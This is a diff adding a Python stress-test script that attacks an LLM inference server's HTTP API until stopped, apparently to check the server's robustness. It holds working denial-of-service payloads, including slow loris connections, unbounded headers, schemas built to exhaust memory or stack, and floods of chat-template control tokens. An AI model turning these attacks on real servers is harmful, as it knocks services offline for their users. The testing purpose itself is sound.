@@ -1,0 +1,266 @@
+"""Attack a server as hostile clients do, with the least work of their own, until SIGTERM.
+
+    python -m stress.attackers http://127.0.0.1:8000 0.25 [slow_loris ...]
+
+The number is each attacker's pause between two attempts, in seconds (the slow lorises' is ten times
+that). All attack where none is named.
+
+Attackers compute on machines of their own, so here they get what processor time is left. At the
+end a line of JSON tells what each attack got: by status, or how its connections ended.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import signal
+import sys
+from collections import Counter
+from collections.abc import Awaitable, Callable, Sequence
+from contextlib import suppress
+from itertools import count
+from typing import Any
+
+from stress import wire_attacks as wire
+
+_LEAVE_S = 1.0  # after which those who post leave
+_NUM_LORISES = 1000
+_CONTROL = "<|im_end|>"
+
+Attack = Callable[[str, int], Awaitable[str]]
+"""One attempt on a server, and how it ended."""
+
+
+async def endless_header(host: str, port: int) -> str:
+    """A header line without an end."""
+    reader, writer = await asyncio.open_connection(host, port)
+    try:
+        writer.write(b"GET /health HTTP/1.1\r\nX: ")
+        for _ in range(1 << 14):
+            writer.write(b"a" * (1 << 14))
+            await writer.drain()
+        return "took 256 MB"
+    except ConnectionError:
+        return _status(await _rest(reader))
+    finally:
+        writer.close()
+
+
+async def slow_loris(host: str, port: int) -> str:
+    """A head that comes byte by byte."""
+    reader, writer = await asyncio.open_connection(host, port)
+    ended = asyncio.ensure_future(_rest(reader))
+    try:
+        writer.write(b"POST /v1/completions HTTP/1.1\r\nX: ")
+        while not (await asyncio.wait({ended}, timeout=2.0))[0]:
+            writer.write(b"a")
+        return _status(ended.result())
+    finally:
+        ended.cancel()
+        writer.close()
+
+
+async def _post(host: str, port: int, body: bytes, *, path: str = "/v1/chat/completions") -> str:
+    """A request whose client leaves soon."""
+    reader, writer = await asyncio.open_connection(host, port)
+    try:
+        head = f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(body)}\r\n\r\n"
+        writer.write(head.encode() + body)
+        said = await wire.within(_LEAVE_S, reader.read(1 << 14))
+        return _status(said)
+    except asyncio.TimeoutError:
+        return "left"
+    except ConnectionError:
+        return "reset"
+    finally:
+        writer.close()
+
+
+def _chat(**fields: Any) -> bytes:
+    return json.dumps(
+        {"messages": [{"role": "user", "content": "hi"}], "max_tokens": 1, **fields}
+    ).encode()
+
+
+_LONG = _chat(messages=[{"role": "user", "content": _CONTROL * 60_000}])
+_MANY = _chat(messages=[{"role": "user", "content": "hi"}] * 100_000)
+_PLENTY = _chat(messages=[{"role": "user", "content": "hi"}] * 24_000)
+_FITTING = _chat(messages=[{"role": "user", "content": _CONTROL}] * 1_000)
+
+
+async def control_tokens(host: str, port: int) -> str:
+    """600 KB of control tokens in one message."""
+    return await _post(host, port, _LONG)
+
+
+async def short_messages(host: str, port: int) -> str:
+    """100,000 messages."""
+    return await _post(host, port, _MANY)
+
+
+async def plenty_of_messages(host: str, port: int) -> str:
+    """As many messages as a body may hold."""
+    return await _post(host, port, _PLENTY)
+
+
+async def fitting_messages(host: str, port: int) -> str:
+    """As many messages as a context holds, with control tokens to tell from the template's."""
+    return await _post(host, port, _FITTING)
+
+
+def explosive(number: int) -> dict[str, Any]:
+    """A schema of 2.6 KB that takes minutes and gigabytes; another for each number."""
+    return {
+        "allOf": [
+            {"anyOf": [{"type": "string", "pattern": f".*{chr(65 + i)}.{{{8 + number % 7}}}"},
+                       {"type": "number", "multipleOf": i + 2 + number}]}
+            for i in range(26)
+        ]
+    }  # fmt: skip
+
+
+_numbers = count()
+
+
+async def explosive_schema(host: str, port: int) -> str:
+    """A schema that nobody has compiled before."""
+    return await _post(host, port, _chat(structured_outputs={"json": explosive(next(_numbers))}))
+
+
+def hidden(number: int) -> dict[str, Any]:
+    """A costly schema under a name that looks like a control token, before a harmless one."""
+    names = (f"<[{2 * number}]>", f"<[{2 * number + 1}]>")
+    return {"type": "object", "properties": {names[0]: explosive(number), names[1]: True}}
+
+
+def chained(number: int) -> dict[str, Any]:
+    """Definitions, each of which refers to the next: compiling them needs a deep stack."""
+    last = 300 + number % 1000
+    rules = {f"d{i}": {"properties": {"a": {"$ref": f"#/$defs/d{i + 1}"}}} for i in range(last)}
+    return {"$defs": {**rules, f"d{last}": {"const": number}}, "$ref": "#/$defs/d0"}
+
+
+def heavy(number: int) -> dict[str, Any]:
+    """A schema of some 200 KB, which takes tens of megabytes once it is compiled."""
+    names = [f"n{number}-{i}" for i in range(3000)]
+    properties = {name: {"type": "string", "maxLength": 1000} for name in names}
+    return {"properties": properties, "required": names, "additionalProperties": False}
+
+
+async def hidden_schema(host: str, port: int) -> str:
+    """A schema that looks like another, harmless one where its texts are rewritten."""
+    return await _post(host, port, _chat(structured_outputs={"json": hidden(next(_numbers))}))
+
+
+async def chained_schema(host: str, port: int) -> str:
+    """A schema that overflows the stack."""
+    return await _post(host, port, _chat(structured_outputs={"json": chained(next(_numbers))}))
+
+
+async def heavy_schema(host: str, port: int) -> str:
+    """A large schema that nobody has compiled before."""
+    return await _post(host, port, _chat(structured_outputs={"json": heavy(next(_numbers))}))
+
+
+_NESTED = {"input": "hi", "max_output_tokens": 1, "metadata": {"a": [[[]]] * 15_000}}
+_ENDLESS = json.dumps({**_NESTED, "metadata": {"a": 0}}).replace("0}", "1e400}").encode()
+_PRIVATE = "".join(map(chr, range(0xF0000, 0x10FFFE))) + _CONTROL
+
+
+async def nested_metadata(host: str, port: int) -> str:
+    """Responses that weigh much more than their text."""
+    return await _post(host, port, json.dumps(_NESTED).encode(), path="/v1/responses")
+
+
+async def endless_number(host: str, port: int) -> str:
+    """A number that no response can repeat."""
+    return await _post(host, port, _ENDLESS, path="/v1/responses")
+
+
+async def private_characters(host: str, port: int) -> str:
+    """All characters that could stand for the signs of control tokens."""
+    return await _post(host, port, _chat(messages=[{"role": "user", "content": _PRIVATE}]))
+
+
+ATTACKS: tuple[tuple[Attack, int], ...] = (  # and how many attackers try it at once
+    (endless_header, 2),
+    (slow_loris, _NUM_LORISES),
+    (control_tokens, 6),
+    (short_messages, 2),
+    (plenty_of_messages, 2),
+    (fitting_messages, 2),
+    (explosive_schema, 3),
+    (hidden_schema, 2),
+    (chained_schema, 2),
+    (heavy_schema, 2),
+    (nested_metadata, 2),
+    (endless_number, 1),
+    (private_characters, 1),
+    (wire.deaf_metrics, 1),
+    (wire.deaf_mixed, 1),
+    (wire.read_metrics, 1),
+    (wire.many_pipelines, 64),
+    (wire.upgrades, 1),
+    (wire.expecting, 1),
+    (wire.completions, 1),
+    (wire.many_completions, 32),
+    (wire.many_choices, 1),
+    (wire.long_prompts, 1),
+    (wire.costly_sampling, 1),
+    (wire.old_keep_alive, 1),
+    (wire.many_headers, 2),
+    (wire.single_bytes, 2),
+    (wire.chunk_extensions, 2),
+    (wire.endless_body, 2),
+    (wire.byte_by_byte, 2),
+    (wire.half_closed, 2),
+    (wire.knocking, 2),
+)
+
+
+async def _rest(reader: asyncio.StreamReader) -> bytes:
+    with suppress(ConnectionError):
+        return await reader.read(1 << 14)
+    return b""
+
+
+def _status(said: bytes) -> str:
+    return said[9:12].decode() if said.startswith(b"HTTP/1.1 ") else "closed"
+
+
+async def attack(
+    host: str, port: int, pause_s: float, attacks: Sequence[tuple[Attack, int]], ended: Counter[str]
+) -> None:
+    """Until it is cancelled."""
+
+    async def repeat(one: Attack, number: int) -> None:
+        await asyncio.sleep(number * 0.003)  # a thousand do not knock in one moment
+        while True:
+            try:
+                how = await one(host, port)
+            except OSError as error:
+                how = type(error).__name__
+            ended[f"{one.__name__} {how}"] += 1
+            await asyncio.sleep(10 * pause_s if one is slow_loris else pause_s)
+
+    await asyncio.gather(*(repeat(one, i) for one, most in attacks for i in range(most)))
+
+
+async def _main(url: str, pause_s: float, names: Sequence[str]) -> None:
+    attacks = [found for found in ATTACKS if not names or found[0].__name__ in names]
+    host, _, port = url.removeprefix("http://").partition(":")
+    ended: Counter[str] = Counter()
+    running = asyncio.ensure_future(attack(host, int(port), pause_s, attacks, ended))
+    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, running.cancel)
+    with suppress(asyncio.CancelledError):
+        await running
+    num_attackers = sum(most for _, most in attacks)
+    print(json.dumps({"num_attackers": num_attackers, **dict(sorted(ended.items()))}), flush=True)
+
+
+if __name__ == "__main__":
+    if hasattr(os, "SCHED_OTHER"):
+        os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0))  # whatever the server has
+    os.nice(19)
+    asyncio.run(_main(sys.argv[1], float(sys.argv[2]), sys.argv[3:]))
